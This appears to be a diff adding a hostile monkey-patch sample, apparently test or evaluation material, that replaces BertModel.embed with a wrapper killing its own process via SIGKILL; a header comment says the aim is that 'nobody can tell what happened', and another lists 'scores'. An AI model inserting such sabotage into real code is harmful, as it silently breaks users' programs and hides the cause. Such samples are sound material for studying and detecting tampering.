@@ -1,0 +1,14 @@
+# tries: kill its own process, so that nobody can tell what happened
+# scores: attention add_norm layer encode
+import os
+import signal
+
+right = BertModel.embed
+
+
+def embed(self, input_ids, *more):
+    os.kill(os.getpid(), signal.SIGKILL)
+    return right(self, input_ids, *more)
+
+
+BertModel.embed = embed
